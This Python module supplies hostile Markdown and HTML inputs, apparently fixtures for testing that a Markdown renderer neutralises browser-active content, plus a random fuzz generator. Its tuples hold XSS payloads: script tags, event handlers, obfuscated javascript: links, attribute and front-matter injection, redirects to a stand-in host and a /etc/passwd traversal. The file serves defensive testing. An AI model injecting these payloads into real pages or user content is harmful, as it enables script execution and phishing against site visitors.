"""Hostile Markdown: pieces that act in a browser, and places to hide them in."""

from __future__ import annotations

import random
from collections.abc import Iterator

MARKUP = (
    "<script>x()</script>",
    "<SCRIPT SRC=//a.example/x.js></SCRIPT>",
    "<script\n>x()</script\n>",
    "<img src=x onerror=x()>",
    "<img src='x' onerror='x()'/>",
    "<svg onload=x()>",
    "<svg><script>x()</script></svg>",
    "<math><mi xlink:href='javascript:x()'>a</mi></math>",
    "<iframe src='javascript:x()'></iframe>",
    "<iframe srcdoc='<script>x()</script>'></iframe>",
    "<object data='javascript:x()'></object>",
    "<embed src='//a.example/x.swf'>",
    "<form action='//a.example/'><input name=q><button>go</button></form>",
    "<base href='//a.example/'>",
    "<meta http-equiv=refresh content='0;url=//a.example/'>",
    "<link rel=stylesheet href='//a.example/x.css'>",
    "<style>@import '//a.example/x.css';</style>",
    "<div style='background:url(//a.example/x)'>a</div>",
    "<p onclick=x()>a</p>",
    "<a href='javascript:x()'>a</a>",
    '<a href="java\tscript:x()">a</a>',
    "<details open ontoggle=x()>a</details>",
    "<video><source onerror=x()></video>",
    "<audio src=x onerror=x()>",
    "<body onload=x()>",
    "<marquee onstart=x()>a</marquee>",
    "<input autofocus onfocus=x()>",
    "<template><script>x()</script></template>",
    "<noscript><img src=x onerror=x()></noscript>",
    "<textarea></textarea><script>x()</script>",
    "<title></title><script>x()</script>",
    "<xmp><script>x()</script></xmp>",
    "<plaintext>",
    "<!-- --><script>x()</script>",
    "<!--><script>x()</script>-->",
    "<!-- a --!><img src=x onerror=x()>",
    "<![CDATA[<script>x()</script>]]>",
    "<?php x() ?>",
    "<?x ><script>x()</script>?>",
    "<!DOCTYPE html><script>x()</script>",
    "<b>bold</b>",
    "<br>",
    "<hl-own-element onclick=x()>a</hl-own-element>",
    "</div></article><script>x()</script>",
    "</p><script>x()</script><p>",
    "<a\nhref='javascript:x()'\n>a</a>",
    "<div markdown='1'><script>x()</script></div>",
    '<img src="x" alt="`" onerror="x()">',
)
LINKS = (
    "[a](javascript:x())",
    "[a](JaVaScRiPt:x\\(\\))",
    "[a](<javascript:x()>)",
    "[a](javascript&#58;x\\(\\))",
    "[a](&#106;avascript:x\\(\\))",
    "[a](java&Tab;script:x\\(\\))",
    "[a](&#1;javascript:x\\(\\))",
    "[a](data:text/html,x)",
    "[a](vbscript:x)",
    "[a](file:///etc/passwd)",
    "[a](//a.example/)",
    "[a](\\\\\\\\a.example/)",
    "[a](/\\a.example/)",
    "[a](http://a.example/)",
    "[a](https://gov.example@a.example/)",
    "[a](https:a.example)",
    "[a](https:///a.example)",
    "[a](https://а.example/)",
    "[a][r]\n\n[r]: javascript:x()",
    "[r]\n\n[r]: <javascript:x()>\n    'title'",
    "[a]\n[r]\n\n[r]:\n    javascript:x()",
    "<javascript:x()>",
    "<https://a.example/>",
    "<mailto:a@a.example>",
    "<a@a.example>",
    "![a](https://a.example/x.png)",
    "![a](//a.example/x.png)",
    "![a](data:image/svg+xml,x)",
    "![a](javascript:x())",
    "![a](x.svg)",
    "![a][r]\n\n[r]: https://a.example/x.png",
    "[![a](//a.example/x.png)](index.md)",
)
ATTRIBUTES = (
    "**a**{ onclick='x()' }",
    "[a](index.md){ onmouseover=x() }",
    "![a](a.png){ onerror=x() }",
    "![a](a.png){ srcset='//a.example/x 2x' }",
    "a\n{: onclick='x()' }",
    "a\n{: style='background:url(//a.example/x)' }",
    "- a\n{: onclick=x() }",
    "> a\n{: onclick=x() }",
    "# a {: onclick=x() }",
    "## a {#b onclick=x()}",
    "| a |\n|---|\n| **b**{ onclick=x() } |",
    "| a { onclick=x() } |\n|---|\n| b |",
    "`a`{ onclick=x() }",
    "*a*{ class='md-overlay' }",
    "*a*{ .mermaid }",
    "*a*{ #__search }",
    "*a*{ id='x onclick' }",
    "[a](index.md){ href='javascript:x()' }",
    "![a](a.png){ src='//a.example/x' }",
    "[a](index.md){ ping='//a.example/' }",
    "[a](index.md){ target=_blank }",
    "term\n:   **a**{ onclick=x() }",
    "!!! note md-overlay\n\n    a",
    '!!! mermaid "a"\n\n    a',
)
TITLES = (
    "# a &lt;/title&gt;&lt;script&gt;x()&lt;/script&gt;",
    "# a `</title><script>x()</script>`",
    '# a" onmouseover="x()',
    "a &#60;script&#62;x()&#60;/script&#62;\n===",
    "---\ntitle: <script>x()</script>\n---\n\n# a",
    "---\ndescription: '\"><script>x()</script>'\n---\n\n# a",
    "---\ntemplate: redirect.html\nlocation: //a.example/\n---\n\n# a",
    "title: <script>x()</script>\n\n# a",
    "template: redirect.html\nlocation: //a.example/\n\n# a",
    "---\nicon: ../../../../etc/passwd\n---\n\n# a",
)
WRAPS = (
    "{}",
    "a {} b",
    "- {}",
    "- a\n\n    {}",
    "1. a\n    - {}",
    "> {}",
    '!!! note "a"\n\n    {}',
    '!!! note "{}"\n\n    a',
    "| a |\n| --- |\n| {} |",
    "a[^1]\n\n[^1]: {}",
    "a\n:   {}",
    "**{}**",
    "## {}",
    "`a` {} `b`",
    "`` ` `` {}",
    "\\`{}\\`",
    "a `b\n\n{} c`",
    "```\na\n```\n{}\n```\nb\n```",
    "~~~\na\n```\n~~~\n{}",
    "    a\n\n{}",
    "a\n    {}",
    "- a\n\n        b\n\n    {}",
    "&lt;{}",
    "\\{}",
    "[{}](index.md)",
    "[a](index.md '{}')",
    "![{}](a.png)",
    "[[if:transition]] {}",
    "a  \n{}",
    "# a\n\n{}\n\n<",
)
HARMLESS = (
    "`{}`",
    "```\n{}\n```",
    "    {}",
    "a\n\n    {}\n\nb",
    "- a\n\n        {}",
    "> ```\n> {}\n> ```",
)
"""Places in which nothing acts: code shows what stands in it."""

SHOWN = (
    "<img\nsrc=x\nonerror=x()\n>",
    "<img src=x:x onerror=x() `>`",
    "a\n=\n{: onclick=x() }",
    "```yaml { onclick=x() }\na\n```",
    "``` { .yaml onclick=x() }\na\n```",
)
"""What looks hostile and is not taken for markup by the library."""

_BITS = (
    *("`", "``", "```", "```\n", "~~~\n", "\n", "\n\n", "    ", "  ", "\\", "<", ">"),
    *("&lt;", "&#60;", "&", '"', "'", "*", "**", "_", "- ", "1. ", "> ", "# ", "| "),
    *("|\n|---|\n", "[", "](", ")", "]", "]: ", "![", "{", "}", "{: ", "!!! note\n\n"),
    *("[^1]", "\n\n[^1]: ", "\n:   ", "a", "甲", " ", "\t", "/", "=", "javascript:"),
    *("<b", "<script", "</", "<!--", "-->", "onclick=x()", "src=", "href=", "//a/"),
    *("x()", "<img src=x onerror=x()>", "<i>", "data:", "https://a.example/", "---\n"),
)


def payloads() -> Iterator[str]:
    """Every piece as it is, and pieces of markup in every place, some of each."""
    yield from (*MARKUP, *LINKS, *ATTRIBUTES, *TITLES)
    for number, wrap in enumerate(WRAPS):
        for step in range(3):
            piece = MARKUP[(7 * number + 17 * step) % len(MARKUP)]
            yield wrap.replace("{}", piece)
        yield wrap.replace("{}", LINKS[number % len(LINKS)])


def harmless() -> Iterator[str]:
    """Pieces of one line in places where they are only shown."""
    for number, wrap in enumerate(HARMLESS):
        for piece in MARKUP[number :: len(HARMLESS)]:
            if "\n" not in piece and "`" not in piece:
                yield wrap.replace("{}", piece)


def jumbled(seed: int, count: int) -> Iterator[str]:
    """Texts thrown together from signs and pieces."""
    chance = random.Random(seed)
    for _ in range(count):
        yield "".join(chance.choices(_BITS, k=chance.randint(4, 24)))
